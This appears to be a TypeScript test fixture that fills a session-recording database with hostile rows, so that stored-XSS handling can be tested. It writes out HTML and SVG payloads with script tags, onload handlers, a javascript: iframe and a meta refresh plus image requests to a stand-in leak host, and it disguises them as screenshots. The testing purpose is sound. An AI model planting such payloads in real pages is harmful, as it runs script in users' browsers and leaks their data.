import { randomUUID } from 'node:crypto';
import * as v from 'valibot';
import type { Sql } from 'postgres';
import { maxNoteLength, maxTagLength } from '../protocol/limits.ts';
import { buildHostileText, leakHost, type TextKind } from './hostile-text.ts';

const columnsSchema = v.array(
  v.object({
    name: v.string(),
    type: v.string(),
    max: v.nullable(v.number()),
    is_generated: v.string(),
  }),
);

/** A document that runs in every way that HTML has, and leaves by itself. */
export const hostileHtml = (field: string): string =>
  `<!doctype html><meta http-equiv=refresh content="0;url=https://${leakHost}/${field}">` +
  buildHostileText('script', field) +
  buildHostileText('image', field) +
  buildHostileText('svg', field) +
  buildHostileText('frames', field);

/** A picture that is a program. */
const hostileSvg = (field: string): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" onload="__x('${field}')"><script>__x('${field}')</script>` +
  `<image href="https://${leakHost}/${field}"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" ` +
  `src="javascript:__x('${field}')"/></foreignObject></svg>`;

/** What a copied picture claims to be, and what it is. */
const disguises = [
  { format: 'text/html', image: hostileHtml('html_picture') },
  { format: 'image/svg+xml', image: hostileSvg('svg_picture') },
  { format: null, image: hostileHtml('odd_picture') },
];

/** Puts a star, a hostile tag and a hostile note in the middle of its time to a session that is stored. */
export async function addHostileLabels(sql: Sql, sessionId: string, kind: TextKind): Promise<void> {
  // What a tag may not have would be refused.
  const tag = buildHostileText(kind, 'tag', maxTagLength).replaceAll(',', ';').replace(/^!/, '');
  await sql`INSERT INTO session_labels (session_id, is_starred, tags) VALUES (${sessionId}, true, ${[tag]})`;
  await sql`
    INSERT INTO session_notes (session_id, at, body)
    SELECT ${sessionId}, min("timestamp") + (max("timestamp") - min("timestamp")) / 2, ${buildHostileText(kind, 'note', maxNoteLength)}
    FROM events WHERE session_id = ${sessionId}`;
}

/**
 * Copies a session with its events and pictures as rows that the API would refuse, as an older version or another program may have
 * left them: every column that holds text, lists of text or JSON is hostile, and pictures are documents. Gives the copy's id.
 */
export async function insertHostileRows(sql: Sql, sessionId: string, kind: TextKind): Promise<string> {
  const copyId = randomUUID();
  for (const table of ['sessions', 'events', 'screenshots'] as const) {
    const columns = v.parse(
      columnsSchema,
      await sql`
        SELECT column_name AS name, udt_name AS type, character_maximum_length AS max, is_generated
        FROM information_schema.columns WHERE table_schema = 'public' AND table_name = ${table}`,
    );
    const written = columns.filter((column) => column.is_generated === 'NEVER').map(({ name }) => name);
    const rows = await sql<{ row: Record<string, unknown> }[]>`
      SELECT to_jsonb(t) AS row FROM ${sql(table)} t WHERE session_id = ${sessionId}`;
    for (const [index, { row }] of rows.entries()) {
      const changed: Record<string, unknown> = { ...row, session_id: copyId };
      for (const { name, type, max } of columns) {
        const text = buildHostileText(kind, name, max ?? 1_000);
        if (type === 'text' || type === 'varchar') changed[name] = text;
        else if (type === '_text') changed[name] = [text, text];
        else if (type === 'jsonb') changed[name] = { [text]: text };
      }
      // Of the types that there are, every second one: their words are shown otherwise.
      if (table === 'events' && index % 2 === 0) changed.event_type = row.event_type;
      const disguise = table === 'screenshots' ? disguises[index % disguises.length] : undefined;
      if (disguise) changed.image = `\\x${Buffer.from(disguise.image).toString('hex')}`;
      if (disguise?.format) changed.format = disguise.format;
      await sql`
        INSERT INTO ${sql(table)} (${sql(written)})
        SELECT ${sql(written)} FROM jsonb_populate_record(NULL::${sql(table)}, ${JSON.stringify(changed)}::text::jsonb)`;
    }
  }
  await insertRejected(sql, copyId, kind);
  return copyId;
}

/** An event of a session that the database has refused, of a hostile type and for a hostile reason. */
async function insertRejected(sql: Sql, sessionId: string, kind: TextKind): Promise<void> {
  const event = { event_type: buildHostileText(kind, 'rejected_type'), name: buildHostileText(kind, 'rejected_name') };
  await sql`
    INSERT INTO rejected_events (session_id, event_id, site_id, sqlstate, reason, payload)
    VALUES (${sessionId}, 7, 'default', ${buildHostileText(kind, 'sqlstate')}, ${buildHostileText(kind, 'reason')},
      ${Buffer.from(JSON.stringify(event))})`;
}
